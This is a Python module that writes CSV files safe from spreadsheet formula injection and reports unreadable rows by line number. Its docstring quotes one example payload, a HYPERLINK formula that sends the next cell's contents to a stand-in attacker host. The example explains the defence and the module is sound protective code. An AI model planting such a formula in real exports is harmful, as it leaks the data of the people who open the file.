"""CSV files as Cible reads and writes them.

Written: every CSV Cible produces (reports, audience exports, activation files, files rewritten on
erasure) is opened by people in spreadsheets, where a cell that begins with `=`, `+`, `-` or `@`
(or a tab or a carriage return before one) is run as a formula: a campaign named
`=HYPERLINK("http://evil.example/"&A1,"Click")` would become a live link carrying the next cell.
Such a cell is written with a leading apostrophe, as OWASP's CSV-injection rule says, which a
spreadsheet shows as the text typed. A plain number (`-12.50`, `+33612345678`, a phone number in
E.164) is left as it is: a spreadsheet reads it as the number, not as a formula, and files that
machines read (an activation file) keep their phone numbers and amounts unchanged.

Read: a cell longer than the csv module's limit (131,072 characters) is an error naming its line
and the limit, not `_csv.Error` out of a worker.
"""

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

CELL_MAX_CHARACTERS = csv.field_size_limit()


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet will show it, never as a formula it would run."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's interface, every cell through `safe_cell`."""

    def __init__(self, f, *args, **kwargs) -> None:
        self._writer = csv.writer(f, *args, **kwargs)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f, *args, **kwargs) -> SafeWriter:
    return SafeWriter(f, *args, **kwargs)


class DictWriter(csv.DictWriter):
    """csv.DictWriter, every cell through `safe_cell`."""

    def __init__(self, f, fieldnames, *args, **kwargs) -> None:
        super().__init__(f, fieldnames, *args, **kwargs)
        options = {k: v for k, v in kwargs.items() if k not in ("restval", "extrasaction")}
        self.writer = SafeWriter(f, *args, **options)  # type: ignore[assignment]  # csv's writer interface


class UnreadableRow(ValueError):
    """A line the csv module cannot read: a cell over its limit, or a malformed line."""

    def __init__(self, line: int, error: csv.Error) -> None:
        self.line = line
        if "field larger than field limit" in str(error):
            reason = f"a cell is longer than {CELL_MAX_CHARACTERS:,} characters, the longest a CSV cell may be"
        else:
            reason = f"not readable as CSV ({error})"
        super().__init__(f"Line {line}: {reason}.")


def checked_rows(reader) -> Iterator:
    """The rows of a csv reader or DictReader; UnreadableRow, naming the line, where one cannot be read."""
    while True:
        try:
            row = next(reader)
        except StopIteration:
            return
        except csv.Error as error:
            raise UnreadableRow(getattr(reader, "reader", reader).line_num, error) from None  # a DictReader's is stale
        yield row


def checked_header(reader: csv.DictReader) -> list[str]:
    """A DictReader's header row (its `fieldnames`), UnreadableRow when it cannot be read."""
    try:
        return list(reader.fieldnames or [])
    except csv.Error as error:
        raise UnreadableRow(getattr(reader, "reader", reader).line_num, error) from None
